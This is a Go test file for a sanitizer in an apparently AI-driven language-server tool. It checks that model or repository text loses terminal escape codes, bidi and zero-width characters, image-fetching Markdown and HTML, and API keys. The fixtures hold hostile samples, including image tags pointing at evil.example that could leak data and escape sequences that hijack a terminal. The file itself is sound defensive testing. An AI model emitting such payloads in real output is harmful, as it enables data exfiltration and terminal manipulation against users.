package clienttext

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/aide-lsp/aide-lsp/model"
	"github.com/aide-lsp/aide-lsp/planview"
)

// hostile is text a model or a repository could send: terminal controls,
// bidi and zero-width characters, Markdown that fetches, and a key.
const fakeKey = "sk-border0123456789abcdefghijklmnop"

const hostile = "title\x1b]0;pwned\x07 \x1b[2J\u009b31m \u202eevil\u2066 zero\u200bwidth ![t](http://evil.example/x.png) <img src=http://evil.example/y> " + fakeKey

func checkSafe(t *testing.T, where, s string) {
	t.Helper()
	if i := strings.IndexFunc(s, Hidden); i >= 0 {
		t.Errorf("%s keeps hidden %U: %q", where, []rune(s[i:])[0], s)
	}
	if strings.Contains(s, "![") || strings.Contains(s, "<img") {
		t.Errorf("%s keeps a fetch: %q", where, s)
	}
	if strings.Contains(s, fakeKey) || strings.Contains(s, fakeKey[:20]) {
		t.Errorf("%s keeps the key: %q", where, s)
	}
}

func TestKinds(t *testing.T) {
	for name, f := range map[string]func(string) string{"Markdown": Markdown, "Plain": Plain, "TitleLine": TitleLine} {
		out := f(hostile)
		checkSafe(t, name, out)
		if f(out) != out {
			t.Errorf("%s is not idempotent: %q then %q", name, out, f(out))
		}
	}
	if s := TitleLine("a\nb\tc"); s != "a b c" {
		t.Errorf("TitleLine keeps line breaks: %q", s)
	}
	term := Terminal(hostile)
	if strings.ContainsRune(term, 0x1b) || !strings.Contains(term, `\u{1b}`) || strings.Contains(term, fakeKey) {
		t.Errorf("Terminal: %q", term)
	}
	if Plain("keep\nlines\tand tabs") != "keep\nlines\tand tabs" {
		t.Error("Plain changed newlines or tabs")
	}
}

func TestJSONByKind(t *testing.T) {
	msg, _ := json.Marshal(map[string]any{
		"method": "x",
		"params": map[string]any{
			"title": hostile,
			"text":  hostile,
			"items": []any{hostile, map[string]any{"newText": hostile}, 3, true, nil},
			"n":     1.5e3,
		},
	})
	out, err := JSON(msg, func(path []string) Kind {
		switch path[len(path)-1] {
		case "newText":
			return Exact
		case "title":
			return Title
		}
		return Text
	})
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Params struct {
			Title, Text string
			Items       []any
			N           float64
		}
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	checkSafe(t, "title", got.Params.Title)
	checkSafe(t, "text", got.Params.Text)
	checkSafe(t, "items[0]", got.Params.Items[0].(string))
	if got.Params.Items[1].(map[string]any)["newText"] != hostile {
		t.Error("an exact string was changed")
	}
	if got.Params.N != 1500 || got.Params.Items[2] != 3.0 || got.Params.Items[3] != true || got.Params.Items[4] != nil {
		t.Errorf("scalars changed: %s", out)
	}
}

// collect streams text cut by cut into pieces and returns what was sent.
func collect(text string, cut func(string) []string) (string, *Stream) {
	var b strings.Builder
	st := NewStream(func(s string) { b.WriteString(s) })
	for _, p := range cut(text) {
		st.Write(p)
	}
	st.Flush()
	return b.String(), st
}

func bytesOf(s string) []string {
	out := make([]string, len(s))
	for i := 0; i < len(s); i++ {
		out[i] = s[i : i+1]
	}
	return out
}

func TestStreamSplitKey(t *testing.T) {
	model.RememberSecret("remembered-secret-value-42")
	text := strings.Repeat("some plan text, a line of it\n", 40) + "the key is " + fakeKey + " and remembered-secret-value-42 again\n" +
		strings.Repeat("more text ![img](http://x) <b>bold</b> ## not a heading\n", 40)
	whole, _ := collect(text, func(s string) []string { return []string{s} })
	for name, cut := range map[string]func(string) []string{
		"bytes": bytesOf,
		"threes": func(s string) []string {
			var out []string
			for len(s) > 3 {
				out = append(out, s[:3])
				s = s[3:]
			}
			return append(out, s)
		},
	} {
		got, _ := collect(text, cut)
		if got != whole {
			t.Errorf("%s: the stream differs from the one-piece text", name)
		}
		if strings.Contains(got, fakeKey[:12]) || strings.Contains(got, "remembered-secret") {
			t.Errorf("%s: a key got through: %q", name, got)
		}
		checkSafe(t, name, got)
	}
}

// TestStreamLinear counts the stream's work: one byte at a time costs a
// small constant times the text, as one piece does (no timing).
func TestStreamLinear(t *testing.T) {
	text := strings.Repeat("a line of the plan: `code` and <b>tags</b> ## h\n", 4096) // ~200 KiB
	_, one := collect(text, func(s string) []string { return []string{s} })
	_, bytewise := collect(text, bytesOf)
	line := strings.SplitAfter(text, "\n")
	_, lines := collect(text, func(string) []string { return line })
	long := strings.Repeat("x", 200<<10)
	_, longBytes := collect(long, bytesOf)
	for name, st := range map[string]*Stream{"one piece": one, "bytes": bytewise, "lines": lines, "one long line by bytes": longBytes} {
		if st.work > 8*len(text) {
			t.Errorf("%s: %d units of work for %d bytes", name, st.work, len(text))
		}
	}
}

func TestIncompleteRune(t *testing.T) {
	got, _ := collect("héllo → wörld\n", bytesOf)
	if got != "héllo → wörld\n" {
		t.Errorf("runes cut by pieces: %q", got)
	}
}

// FuzzStream: the model's text, cut anywhere, reaches the client as
// exactly the border's text of the whole (hidden characters removed, keys
// redacted, defanged plain): nothing slips through a cut, and every piece
// sent is valid UTF-8 (JSON would mangle it otherwise).
func FuzzStream(f *testing.F) {
	f.Add("![a](b)\n<img>", 1)
	f.Add("```\n![x](y)\n```\n", 3)
	f.Add("a!\n[b](c)", 2)
	f.Add("Plan:\n![x](http://evil.example/?k=v) and <img src=x>\n```html\n<img src=ok>\n```\n!", 1)
	f.Add("key "+fakeKey+"\x1b[2J\u200b end", 1)
	f.Fuzz(func(t *testing.T, text string, n int) {
		if n <= 0 || n > 64 {
			return
		}
		want := planview.DefangPlain(model.Redact(Strip(text)))
		var b strings.Builder
		st := NewStream(func(s string) {
			if !utf8.ValidString(s) {
				t.Fatalf("sent %q: not valid UTF-8", s)
			}
			b.WriteString(s)
		})
		for i := 0; i < len(text); i += n {
			st.Write(text[i:min(i+n, len(text))])
		}
		st.Flush()
		if got := b.String(); got != want {
			t.Fatalf("cut every %d: %q, want %q", n, got, want)
		}
	})
}
